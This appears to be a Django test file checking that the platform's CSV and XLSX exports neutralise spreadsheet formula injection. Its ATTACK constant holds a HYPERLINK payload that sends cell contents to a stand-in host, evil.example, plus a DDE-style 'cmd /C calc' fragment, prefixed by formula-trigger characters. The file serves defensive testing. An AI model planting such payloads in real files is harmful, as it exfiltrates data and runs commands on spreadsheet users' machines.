"""No cell of any file that leaves the platform is a formula, however it begins (A14)."""

from __future__ import annotations

import csv
import io
import zipfile
from typing import Any

import openpyxl
import pytest
from django.test import Client

from accounts.models import User
from institutions.models import Institution
from jobs import running
from register.models import Entry
from tests.abuse.walking import Step
from tests.personnel.books import comma_separated, row, upload
from tests.rectification import world as w
from tests.rectification.pages import client_of
from tests.rectification.world import World

pytestmark = pytest.mark.django_db

SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t", "\r", "\n")
ATTACK = 'HYPERLINK("http://evil.example/?"&A1,"x")|\' /C calc\'!A0'
ATTACKS = [before + sign + ATTACK for sign in SIGNS for before in ("", " ", "  ")]


@pytest.fixture
def world() -> World:
    world = w.build_world()
    w.listed(world)
    return world


@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_the_public_files(world: World, form: str) -> None:
    for attack in ATTACKS:
        platforms = [{"kind": "app", "name": attack, "address": attack, "icp_number": attack}]
        Entry.objects.update(name=attack, brand=attack, reason=attack, platforms=platforms)
        _no_formula(f"/register/download/register.{form}", Client())


@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_the_queue(world: World, form: str) -> None:
    client = client_of(world.officer)
    world.institution.filings.update(assigned_to=world.officer)
    for attack in ATTACKS:
        Institution.objects.update(name=attack)
        User.objects.filter(pk=world.officer.pk).update(name=attack[:60])
        _no_formula(f"/review/export/{form}/?view=all&state=closed", client)


def test_the_workbook_that_is_handed_back(world: World) -> None:
    filing = w.opening.open_filing(world.institution, "change", world.filer)
    client, address = client_of(world.filer), f"/file/{filing.number}/personnel/workbook/"
    # As a spreadsheet program would write them, they were formulas already: a text file has them as text.
    attacks = [row(n, name="李明", work=attack.strip(), role="x") for n, attack in enumerate(ATTACKS)]
    client.post(address, {"workbook": upload(comma_separated(attacks), "people.csv")})
    for pk in running.Job.objects.filter(kind="personnel_import").values_list("pk", flat=True):
        running.run(pk)
    content = _no_formula(f"{address}annotated/", client)
    assert "HYPERLINK" in content
    _no_formula(f"{address}template/", client)


def _no_formula(address: str, client: Client) -> str:
    """Read as a spreadsheet program does: the text of all cells."""
    step = Step("", address, client.get(address))
    assert step.answer.status_code == 200, address
    if "csv" in step.media_type:
        cells: list[Any] = [cell for line in csv.reader(io.StringIO(step.content.decode("utf-8-sig"))) for cell in line]
        assert len(cells) > 15
        assert [cell for cell in cells if cell.lstrip(" ").startswith(SIGNS)] == []
        return "\n".join(cells)
    with zipfile.ZipFile(io.BytesIO(step.content)) as parts:
        written = b"".join(parts.read(name) for name in parts.namelist() if name.startswith("xl/worksheets/"))
    assert b"<f>" not in written and b"<f " not in written and b"<hyperlink" not in written, address
    sheets = openpyxl.load_workbook(io.BytesIO(step.content)).worksheets
    found = [cell for sheet in sheets for line in sheet.iter_rows() for cell in line if cell.value is not None]
    assert {cell.data_type for cell in found} <= {"s", "n", "d"}
    begins = [cell for cell in found if str(cell.value).lstrip(" ").startswith(SIGNS) and not cell.quotePrefix]
    assert [str(cell.value)[:20] for cell in begins] == []
    return "\n".join(str(cell.value) for cell in found)
